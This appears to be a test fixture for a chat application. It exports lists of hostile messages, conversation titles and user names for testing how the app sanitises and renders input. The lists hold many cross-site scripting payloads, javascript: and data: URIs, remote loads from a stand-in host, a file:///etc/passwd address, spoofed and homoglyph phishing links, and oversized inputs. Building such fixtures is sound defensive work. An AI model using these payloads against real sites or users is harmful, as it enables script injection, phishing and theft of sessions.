// What people send who mean harm: to run a script, to fetch something, or to look like what it is not. `pwned` is what a
// script would call; nothing of `elsewhere.example` may ever be asked for.

const scripts = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><script href="https://elsewhere.example/x.js"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="https://elsewhere.example/x.swf"></object><embed src=//elsewhere.example/x>',
  '<link rel=stylesheet href=//elsewhere.example/x.css><style>@import "//elsewhere.example/y.css"</style>',
  '<base href=//elsewhere.example/><form action=//elsewhere.example/><button formaction=javascript:pwned()>ok</button></form>',
  '<details open ontoggle=pwned()>x</details><body onload=pwned()><input autofocus onfocus=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><img src=x onerror=pwned()></template><a href="javascript:pwned()">x</a>',
  "\"><img src=x onerror=pwned()>' onmouseover=pwned() x='",
  '{@html "<img src=x onerror=pwned()>"} {{constructor.constructor("pwned()")()}} #{pwned()} <%= pwned() %>',
  '&lt;img src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62;',
  '\u0000<scr\u0000ipt>pwned()</scr\u0000ipt> +ADw-script+AD4-pwned()+ADw-/script+AD4-',
  '<!--<img src="--><img src=x onerror=pwned()//">',
  '<a id=pwned></a><form id=location name=location></form><img name=body>',
];

const addresses = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  'javascript&colon;pwned()',
  '&#106;avascript:pwned()',
  'javascript&#58;pwned()',
  '%6Aavascript:pwned()',
  'javascript://elsewhere.example/%0Apwned()',
  'vbscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'DATA:image/svg+xml,<svg onload=pwned()>',
  'blob:https://elsewhere.example/x',
  'file:///etc/passwd',
  'view-source:https://elsewhere.example/',
  '//elsewhere.example/x',
  '/api/sessions/current',
  '\\\\elsewhere.example\\x',
  '#/operations',
  'intent://x#Intent;end',
  'feed:javascript:pwned()',
];

/** In every way that Markdown has to name an address. */
const links = addresses.flatMap((address) => [
  `[click](${address}) [click](<${address}>) <${address}> ${address}`,
  `[r]: ${address}\n[r] ![p](${address}) [x](https://a.example "t" onclick=pwned() ${address})`,
]);

const markdown = [
  '![pixel](https://elsewhere.example/pixel.png)',
  '[![p](https://elsewhere.example/p.png)](https://elsewhere.example/)',
  '`<img src=x onerror=pwned()>`',
  '```html\n<script>pwned()</script>\n<img src=x onerror=pwned()>\n```',
  '```"><img src=x onerror=pwned()>\ncode\n```',
  '```__proto__\nx\n```\n```constructor\ny\n```',
  '**<img src=x onerror=pwned()>** ||<script>pwned()</script>|| ~~<svg onload=pwned()>~~',
  '[<img src=x onerror=pwned()>](https://a.example/"onmouseover="pwned())',
  "[x](https://a.example/'onclick='pwned())",
  '[a](https://a.example/)[b](javascript:pwned())[c](https://a.example/ )',
  '[[x](https://a.example/)](javascript:pwned())',
  'https://a.example/"><script>pwned()</script>',
  'https://a.example/`;pwned()//',
];

/** Looks like another place, another person or another file. */
const lies = [
  '[https://bank.example](https://elsewhere.example/)',
  '[bank.example/login](https://elsewhere.example/login)',
  '<https://bank.example@elsewhere.example/>',
  '[https://bank.example\\@elsewhere.example](https://elsewhere.example/)',
  'https://bаnk.example/ https://bank.example。evil.example/',
  'https://xn--bnk-7cd.example/',
  '[ann@bank.example](mailto:x@elsewhere.example)',
  '[mail](mailto:x@elsewhere.example?bcc=y@elsewhere.example)',
  '[\u202eelpmaxe.knab//:sptth\u202c](https://elsewhere.example/)',
  '[\u2066bank.example\u2069](https://elsewhere.example/)',
  '[ban\u200bk.example](https://elsewhere.example/)',
  'invoice\u202efdp.exe \u202dabc\u202c',
  '\u202e\u202e\u202e never ended',
  '@admin @everyone @\u202enna',
];

const sizes = [
  'A'.repeat(10_000),
  'ệ'.repeat(10_000),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(1_000),
  `Z${'\u0336\u0337\u0338\u0321\u0322\u0327\u0328\u0301\u0302\u0303'.repeat(300)}algo`,
  '﷽'.repeat(400),
  '\u0300'.repeat(2_000),
  '> '.repeat(3_000),
  '[['.repeat(5_000),
  '**'.repeat(5_000),
  '- '.repeat(5_000),
  '\n'.repeat(10_000).concat('end'),
  `\`\`\`js\n${'(['.repeat(1_400)}\n\`\`\``,
  `| ${'a |'.repeat(2_000)}`,
  'https://a.example/'.concat('a'.repeat(8_000)),
];

export const hostileMessages = [...scripts, ...links, ...markdown, ...lies, ...sizes];

/** What a conversation may be called: any text. */
export const hostileTitles = [
  '<img src=x onerror=pwned()>',
  '"><script>pwned()</script>',
  '\u202enimda\u202c \u2066x',
  `T${'\u0336\u0301\u0302'.repeat(30)}`,
  'W'.repeat(100),
  '#{pwned()} {{pwned()}} {@html pwned}',
];

/** What a person may be called: no spaces, no control characters. */
export const hostileNames = [
  '<img/src=x/onerror=pwned()>'.replaceAll('/', ''),
  '"onmouseover=pwned()x="',
  '__proto__',
  `Ẓ${'\u0321\u0322\u0327\u0336\u0337'.repeat(8)}`,
  'аdmin',
  'W'.repeat(50),
];
